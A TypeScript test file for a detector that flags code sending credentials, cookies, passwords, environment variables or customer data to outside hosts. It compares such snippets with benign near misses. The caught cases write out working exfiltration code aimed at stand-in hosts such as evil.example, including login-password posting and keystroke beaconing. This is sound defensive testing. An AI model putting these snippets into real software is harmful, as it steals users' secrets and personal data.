// Application code that sends what is not its own to a host written into it (code-sends-data-out):
// request credentials copied out by middleware, a password posted from a login handler, a web pixel
// shipping the checkout, a job uploading customers, a page recording keystrokes. Beside each, the
// ordinary code that looks like it: the organisation's own hosts, the services a team calls with its
// own key, requests that carry nothing of anyone's, and sends the file already made.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { codeSends } from '../../../src/core/text/code-sends';
import { assertEachCaught, assertEachQuiet, aWrite, blockers, ready, verdictOf } from './harness';

const { write, edit } = blockers;
const POLICY = 'code-sends-data-out';

test('code that sends credentials, personal details or the environment to an outside host asks', async () => {
  await ready();
  assertEachCaught([
    [
      'Hono middleware copying the Authorization header and cookie out',
      () =>
        edit(
          'apps/api/src/index.ts',
          'const app = new Hono<{ Bindings: Env }>();',
          "const app = new Hono<{ Bindings: Env }>();\n\napp.use('*', async (c, next) => {\n  c.executionCtx.waitUntil(fetch('https://logs.evil.example/i', { method: 'POST', body: JSON.stringify({ a: c.req.header('authorization'), k: c.req.header('cookie') }) }));\n  await next();\n});",
        ),
      POLICY,
    ],
    [
      "Next.js middleware posting every visitor's cookies, through a one-letter name",
      () =>
        write(
          'apps/web/middleware.ts',
          "export function middleware(req) {\n  const c = req.cookies.getAll().map((x) => `${x.name}=${x.value}`).join('; ');\n  if (c) fetch('https://t.evil.example/c', { method: 'POST', body: JSON.stringify({ c }) });\n  return NextResponse.next();\n}\n",
        ),
      POLICY,
    ],
    [
      "an install hook posting the merchant's offline token",
      () =>
        edit(
          'app/shopify.server.ts',
          '    afterAuth: async ({ session }) => {\n',
          '    afterAuth: async ({ session }) => {\n      await fetch("https://partners-sync.evil.example/install", {\n        method: "POST",\n        body: JSON.stringify({ shop: session.shop, token: session.accessToken }),\n      });\n',
        ),
      POLICY,
    ],
    [
      'a web pixel beaconing the checkout to a constant endpoint',
      () =>
        write(
          'extensions/pixel/src/index.ts',
          'const COLLECTOR = "https://collect.evil.example/e";\nregister(({ analytics, browser }) => {\n  analytics.subscribe("checkout_completed", (event) => {\n    browser.sendBeacon(COLLECTOR, JSON.stringify(event.data.checkout));\n  });\n});\n',
        ),
      POLICY,
    ],
    [
      "a Liquid tracking pixel with the shopper's email in its address",
      () =>
        write(
          'snippets/px.liquid',
          '{% if customer %}<img src="https://px.evil.example/p.gif?e={{ customer.email | url_encode }}" width="1" height="1">{% endif %}\n',
        ),
      POLICY,
    ],
    [
      'a WordPress login hook posting the password',
      () =>
        write(
          'wp-content/themes/shop/functions.php',
          "<?php\nadd_action('wp_login', function ($login, $user) {\n    wp_remote_post('https://stats.evil.example/l', ['body' => ['u' => $login, 'p' => $_POST['pwd'] ?? '']]);\n}, 10, 2);\n",
        ),
      POLICY,
    ],
    [
      'a Rails job uploading customers over SFTP to an address',
      () =>
        write(
          'app/jobs/nightly_export_job.rb',
          'class NightlyExportJob < ApplicationJob\n  def perform\n    csv = Customer.find_each.map { |c| [c.email, c.name].join(",") }.join("\\n")\n    Net::SFTP.start("203.0.113.30", "drop") { |s| s.upload!(StringIO.new(csv), "in/c.csv") }\n  end\nend\n',
        ),
      POLICY,
    ],
    [
      'a Python script posting the whole environment',
      () =>
        write(
          'scripts/report.py',
          'import os, requests\nrequests.post("https://t.evil.example/env", json=dict(os.environ))\n',
        ),
      POLICY,
    ],
    [
      'a named key sent to a host its issuer does not run',
      () =>
        write(
          'src/sync.ts',
          "await fetch('https://relay.evil.example/k', { method: 'POST', body: process.env.OPENAI_API_KEY });\n",
        ),
      POLICY,
    ],
    [
      'a page script recording every form input and beaconing it',
      () =>
        write(
          'wwwroot/js/telemetry.js',
          "const buf = [];\ndocument.addEventListener('input', (e) => buf.push({ n: e.target.name, v: e.target.value }), true);\nsetInterval(() => navigator.sendBeacon('https://rum.evil.example/c', JSON.stringify(buf.splice(0))), 5000);\n",
        ),
      POLICY,
    ],
    [
      'a Slack webhook handed customer emails (whoever made the webhook reads them)',
      () =>
        write(
          'src/notify.ts',
          "await axios.post('https://hooks.slack.com/services/T000/B000/XXXX', { text: `New order from ${order.customer.email}` });\n",
        ),
      POLICY,
    ],
  ]);
});

test('near misses: own hosts, services used with their own key, requests that carry nothing, sends already there', async () => {
  await ready();
  assertEachQuiet([
    [
      'a payment API called with its own key and the customer email',
      () =>
        write(
          'src/billing.ts',
          "await fetch('https://api.stripe.com/v1/customers', { method: 'POST', headers: { Authorization: `Bearer ${process.env.STRIPE_SECRET_KEY}` }, body: new URLSearchParams({ email }) });\n",
        ),
    ],
    [
      'a health ping',
      () => write('src/cron.ts', "await fetch('https://hc-ping.example/3f2a9c', { method: 'POST' });\n"),
    ],
    [
      'a fixed path that names customers, with nothing of theirs sent',
      () => write('src/catalog.py', 'resp = requests.get("https://api.partner.example/customers/schema")\n'),
    ],
    [
      "the site's own API, by a relative path",
      () =>
        write('src/signup.ts', "await fetch('/api/subscribe', { method: 'POST', body: JSON.stringify({ email }) });\n"),
    ],
    [
      'a service on the private network',
      () =>
        write(
          'src/audit.ts',
          "await fetch('http://audit.internal:8080/events', { method: 'POST', body: JSON.stringify({ email: user.email }) });\n",
        ),
    ],
    [
      'a form service the team uses for its contact form',
      () =>
        write(
          'src/contact.ts',
          "await fetch('https://formspree.io/f/xyzabc', { method: 'POST', body: JSON.stringify({ email, message }) });\n",
        ),
    ],
    [
      'an edit beside a send the file already made',
      () =>
        edit(
          'src/track.ts',
          "  await fetch('https://collect.partner.example/e', { body: JSON.stringify({ email }) });\n",
          "  await fetch('https://collect.partner.example/e', { body: JSON.stringify({ email, plan }) });\n",
        ),
    ],
    [
      'a README that shows such a request',
      () => write('README.md', "```js\nfetch('https://t.example/c', { body: document.cookie })\n```\n"),
    ],
  ]);
});

test("near miss: a partner's API called with a key named for no one, carrying no one's data", () => {
  // data-out-to-host asks about the key this code holds and sends; this policy has nothing to add.
  const spec = aWrite(
    '/home/dev/proj/src/orders.ts',
    "await fetch('https://api.partner.example/v1/stock', { method: 'POST', headers: { Authorization: `Bearer ${process.env.PARTNER_API_KEY}` }, body: JSON.stringify({ sku, qty }) });\n",
  );
  assert.equal(verdictOf(POLICY, spec), undefined);
});

test("the organisation's hosts in allowHosts pass", () => {
  const spec = aWrite(
    '/home/dev/proj/src/login.ts',
    "await fetch('https://auth.acme.example/login', { method: 'POST', body: JSON.stringify({ email, password }) });\n",
  );
  assert.equal(verdictOf(POLICY, spec)?.verdict, 'ask');
  assert.equal(verdictOf(POLICY, spec, { allowHosts: ['acme.example'] }), undefined);
});

test('the reader finds the host and what the call carries, not the fixed URL', () => {
  const [send] = codeSends("const r = await fetch(`https://x.example/customers?e=${user.email}`, { method: 'GET' });");
  assert.equal(send?.host, 'x.example');
  assert.match(send!.payload, /\$\{user\.email\}/);
  assert.doesNotMatch(send!.payload, /customers/);
  // A call named like a request with a URL literal first is one; the same name on a key is not.
  assert.equal(codeSends('const v = cache.get("https://x.example/a"); map.get(key);').length, 1);
  assert.deepEqual(codeSends('fetch(`https://api.${domain}/x`, { body: token })'), []);
  assert.deepEqual(
    codeSends("xhr.open('POST', 'https://x.example/c'); el.open(path);").map((s) => s.host),
    ['x.example'],
  );
});
